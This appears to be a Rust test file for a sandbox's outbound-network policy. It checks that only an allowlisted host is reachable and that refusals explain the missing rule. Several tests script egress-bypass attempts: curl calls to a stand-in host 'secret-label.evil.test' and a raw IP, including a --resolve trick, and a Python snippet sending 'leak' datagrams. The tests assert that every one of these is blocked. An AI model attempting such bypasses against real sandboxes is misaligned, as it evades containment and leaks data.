//! The way out in a handful of runs: what is named is reached by every kind of
//! client, and nothing else leaves.

use stockade_testkit::World;
use stockade_testkit::net::{Internet, ORIGIN};

fn allowed(text: &str) -> (World, Internet) {
    let world = World::new();
    let internet = Internet::start(&world);
    internet.policy(&world, text, "");
    (world, internet)
}

/// curl that ignores the proxy variables, so that the redirect is what counts.
const DIRECT: &str = "curl -sS --max-time 20 --noproxy '*'";
const PROXIED: &str = "curl -sS --max-time 20";

#[test]
fn a_named_host_is_reached_with_and_without_the_proxy() {
    let (world, internet) = allowed("allow = [\"origin.test\"]");
    let authority = internet.authority();
    let script = format!(
        "{PROXIED} http://origin.test/a && {DIRECT} http://origin.test/b && \
         {PROXIED} --cacert ca.pem https://origin.test/c && \
         {DIRECT} --cacert ca.pem https://origin.test/d"
    );
    std::fs::copy(authority, world.project.join("ca.pem")).unwrap();
    let pages = internet.sh(&world, &script).ok();
    assert_eq!(pages, "origin /a\norigin /b\norigin /c\norigin /d");
    assert!(
        internet
            .seen("request")
            .iter()
            .all(|one| one["address"] == ORIGIN)
    );
}

#[test]
fn what_is_not_named_is_refused_and_nobody_outside_hears_of_it() {
    let (world, internet) = allowed("allow = [\"origin.test\"]");
    internet.zone("secret-label.evil.test", &["93.184.216.66"]);
    for command in [
        "curl -sS --max-time 20 http://secret-label.evil.test/",
        "curl -sS --max-time 20 --noproxy '*' http://secret-label.evil.test/",
        "curl -sSk --max-time 20 --noproxy '*' https://93.184.216.66/",
        "curl -sSf --max-time 20 http://93.184.216.66/",
        "curl -sSk --max-time 20 https://secret-label.evil.test/",
        "curl -sSk --max-time 20 --noproxy '*' --resolve origin.test:443:93.184.216.66 https://origin.test:443/",
    ] {
        let finished = internet.sh(&world, command);
        assert!(
            !finished.stdout.contains("origin /"),
            "{command}: {finished:?}"
        );
    }
    assert_eq!(internet.seen("connect"), Vec::<serde_json::Value>::new());
    assert!(!internet.saw_text("evil"), "{:?}", internet.log());
}

#[test]
fn a_denial_says_which_rule_is_missing_and_how_to_add_it() {
    let (world, internet) = allowed("allow = [\"origin.test\"]");
    let script = "curl -sS --max-time 20 -i http://other.test/page";
    let finished = internet.sh(&world, script);
    assert!(finished.stdout.starts_with("HTTP/1.1 403"), "{finished:?}");
    assert!(
        finished
            .stdout
            .to_lowercase()
            .contains("x-sandbox-denied: not-allowed"),
        "{finished:?}"
    );
    let (_, body) = finished.stdout.split_once("\r\n\r\n").expect("a body");
    let body: serde_json::Value = serde_json::from_str(body).expect("JSON");
    assert_eq!(body["code"], "not-allowed");
    assert_eq!(body["host"], "other.test:80");
    assert!(
        body["how_to_allow"]
            .as_str()
            .unwrap()
            .contains("other.test"),
        "{body}"
    );
    assert!(
        finished.stderr.contains("other.test"),
        "{}",
        finished.stderr
    );
}

#[test]
fn datagrams_and_other_ports_fail_at_once() {
    let (world, internet) = allowed("allow = [\"origin.test\"]");
    let script = r#"
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(20)
for port in (443, 123, 9000):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(20)
    s.connect(('93.184.216.34', port)); s.send(b'leak')
    try: s.recv(1); print('answer')
    except ConnectionRefusedError: print('refused')
s = socket.socket(); s.settimeout(20)
try:
    s.connect(('origin.test', 25)); print(len(s.recv(10)))
except OSError as error: print('closed', error)
"#;
    let finished = internet.run(&world, &[], &["/usr/bin/python3", "-c", script]);
    let lines: Vec<&str> = finished.stdout.lines().collect();
    assert_eq!(lines[..3], ["refused"; 3], "{finished:?}");
    assert!(
        lines[3] == "0" || lines[3].starts_with("closed"),
        "{finished:?}"
    );
    assert_eq!(internet.log(), Vec::<serde_json::Value>::new());
}
